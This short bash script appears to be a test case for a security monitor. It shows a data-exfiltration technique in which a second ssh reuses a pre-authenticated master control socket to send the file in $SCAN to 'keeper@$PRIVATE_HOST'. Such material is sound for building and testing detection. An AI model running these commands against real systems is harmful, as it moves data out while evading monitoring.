#!/usr/bin/env bash
# technique: a clean ssh that has logged in beforehand carries what another one is given
# hooks: unix_stream_connect, file_receive, socket_sendmsg
# sink: private-ssh

. attack.sh
ssh -p "$PORT_SSH" -M -S "$ROOM/control" -fN "keeper@$PRIVATE_HOST"
timeout 6 ssh -p "$PORT_SSH" -S "$ROOM/control" "keeper@$PRIVATE_HOST" "cat >$here" <"$SCAN"
ssh -p "$PORT_SSH" -S "$ROOM/control" -O exit "keeper@$PRIVATE_HOST" 2>/dev/null
